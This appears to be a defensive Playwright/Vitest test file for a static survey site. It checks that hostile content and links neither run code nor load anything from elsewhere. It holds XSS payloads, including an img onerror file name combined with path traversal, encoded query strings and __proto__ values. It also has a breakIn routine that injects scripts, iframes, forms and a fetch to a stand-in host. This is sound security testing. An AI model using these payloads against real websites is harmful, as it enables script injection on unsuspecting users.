import { cp, mkdir, mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import type { Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { serveSite } from '../../src/commands/serve-site.ts';
import { buildSurvey } from './build.ts';
import { listFiles } from './dist.ts';
import { eventually } from './eventually.ts';
import { openPage, takeViolations, WIDE } from './open-page.ts';
import { withBrowser } from './with-browser.ts';

const opened = withBrowser();

let scratch: string;
let server: Server;
let base: string;
beforeAll(async () => {
  scratch = await mkdtemp(join(tmpdir(), 'conspectus-hostile-'));
  const content = join(scratch, 'content');
  await cp('tests/fixtures/surveys/wreckers', content, { recursive: true });
  // A name that not every system takes.
  await writeFile(
    join(content, 'sources', '%2e%2e%2f<img src=x onerror=wreck()>.txt'),
    '2101.00001\n2101.00002\n2101.00003\n2101.00004\n2101.00005\n',
  );
  await mkdir(join(scratch, 'site'));
  await buildSurvey(content, join(scratch, 'site'));
  server = await serveSite({ folder: join(scratch, 'site'), port: 0 });
  const address = server.address();
  base = `http://localhost:${typeof address === 'object' ? (address?.port ?? 0) : 0}/`;
}, 120_000);
afterAll(async () => {
  server.closeAllConnections();
  server.close();
  await rm(scratch, { recursive: true });
});

describe('a survey in which everybody means harm', () => {
  it('is built, and nothing of it is written elsewhere or run', async () => {
    expect((await readdir(scratch)).toSorted()).toEqual(['content', 'site', 'site-cache']);
  });

  it('shows what is hostile as text: nothing runs, and nothing is asked of others', async () => {
    const { page, requests, troubles } = await openPage(opened.browser, { viewport: WIDE });
    const ran: string[] = [];
    await page.exposeFunction('wreck', () => ran.push(page.url()));
    page.on('dialog', (dialog) => void dialog.dismiss());
    for (const file of await listFiles(join(scratch, 'site'), '.html')) {
      await page.goto(base + file);
      // What waits for a pointer or the keyboard.
      await page.evaluate(touchAll);
      expect(await findArmed(page), file).toEqual([]);
    }
    for (const address of HOSTILE_ADDRESSES) {
      await page.goto(base + address, { waitUntil: 'networkidle' });
      expect(await findArmed(page), address).toEqual([]);
    }
    await page.keyboard.press('/');
    await page.locator('dialog[open] input').fill('wreck');
    await page.locator('[role=option]').first().waitFor();
    expect(await findArmed(page), 'the palette').toEqual([]);

    expect(ran).toEqual([]);
    expect(
      requests.filter((url) => !/^(?:blob|data):/u.test(url) && !url.startsWith(base)),
    ).toEqual([]);
    // The last address has no page.
    expect(troubles.filter((trouble) => !trouble.includes('404'))).toEqual([]);
    await page.context().close();
  });

  it('shows a note of a stranger as Markdown, and one in MDX not at all', async () => {
    const { page } = await openPage(opened.browser, { viewport: WIDE });
    await page.goto(`${base}papers/the-script-wreck-script-false-lights-wreck-a-system/`);
    const note = page.locator('.note');
    expect(await note.innerText()).toContain(
      'A stranger wrote this. {wreck()} <script>wreck()</script>',
    );
    expect(await note.locator('table code').innerText()).toBe('<script>wreck()</script>');
    expect(await note.locator('img, script, style, iframe').count()).toBe(0);
    await page.goto(`${base}papers/export-const-wrecked-wreck/`);
    expect(await page.locator('.note').count()).toBe(0);
    await page.context().close();
  });

  it('would not get code to run, nor anything loaded, if some came into a page', async () => {
    const { page, requests, troubles } = await openPage(opened.browser, { viewport: WIDE });
    await page.goto(base, { waitUntil: 'networkidle' });
    await page.evaluate(breakIn);
    await eventually(() => listRefused(troubles)).toEqual(REFUSED);
    expect(await page.evaluate(() => 'wrecked' in globalThis)).toBe(false);
    const asked = requests.filter((url) => url.includes('elsewhere.example'));
    expect(asked.filter((url) => !troubles.includes(`${url}: csp`))).toEqual([]);
    expect(takeViolations()).not.toEqual([]);
    await page.context().close();
  });
});

/** What the policy must refuse, as Chromium begins to say it. */
const REFUSED = [
  'Connecting to',
  'Executing inline event handler',
  'Executing inline script',
  'Loading plugin data',
  'Loading the image',
  'Loading the script',
  'Running the JavaScript URL',
  'Sending form data',
  "Setting the document's base URI",
];

function listRefused(troubles: readonly string[]): readonly string[] {
  return REFUSED.filter((kind) => troubles.some((trouble) => trouble.startsWith(kind)));
}

const HOSTILE = encodeURIComponent('"><img src=x onerror=wreck()>');
/** What somebody could send a reader as a link. */
const HOSTILE_ADDRESSES = [
  `search/?q=${HOSTILE}&chapter=${HOSTILE}&year=${HOSTILE}`,
  `search/?q=title:${HOSTILE}%20OR%20(((&sort=__proto__`,
  `results/?q=${HOSTILE}&metric=${HOSTILE}&sort=${HOSTILE}`,
  `compare/?papers=${HOSTILE},__proto__,..%2F..%2Fx`,
  `papers/import-fs-from-node-fs/?highlight=${HOSTILE}#${HOSTILE}`,
  `no/such/%22%3E%3Cimg%20src=x%20onerror=wreck()%3E/`,
];

/** Elements of a page that could run something, or load it from elsewhere. */
function findArmed(page: Page): Promise<readonly string[]> {
  return page.evaluate(() =>
    [...document.querySelectorAll('*')].flatMap((element) =>
      [...element.attributes]
        .filter(({ name, value }) => {
          const address = /^(?:href|src|action|formaction|data|srcset|poster)$/u.test(name);
          const loads = address && !/^(?:a|link)$/u.test(element.localName);
          return (
            /^on|^srcdoc$|^style$/u.test(name) ||
            (address && /^\s*(?:javascript|data|vbscript):/iu.test(value)) ||
            (loads && value.includes('elsewhere.example'))
          );
        })
        .map(({ name, value }) => `<${element.localName} ${name}="${value}">`),
    ),
  );
}

function touchAll(): void {
  for (const element of document.querySelectorAll('main *, header *')) {
    for (const type of ['mouseover', 'focus', 'error', 'load']) {
      element.dispatchEvent(new Event(type));
    }
  }
}

/** What an attacker would try who got mark-up past everything else. */
function breakIn(): void {
  const run = "globalThis.wrecked = 'yes'";
  const inline = document.createElement('script');
  inline.textContent = run;
  const external = document.createElement('script');
  external.src = 'https://elsewhere.example/x.js';
  const data = document.createElement('script');
  data.src = `data:text/javascript,${run}`;
  document.body.append(inline, external, data);
  document.body.insertAdjacentHTML(
    'beforeend',
    `<img src="https://elsewhere.example/x.png" onerror="${run}">
     <iframe srcdoc="<script>parent.wrecked = 1</script>"></iframe>
     <object data="https://elsewhere.example/x.svg"></object>
     <base href="https://elsewhere.example/">
     <form action="https://elsewhere.example/"><button id="send">x</button></form>
     <a id="link" href="javascript:${run}">x</a>`,
  );
  document.querySelector<HTMLElement>('#send')?.click();
  document.querySelector<HTMLElement>('#link')?.click();
  void fetch('https://elsewhere.example/').catch(() => undefined);
}
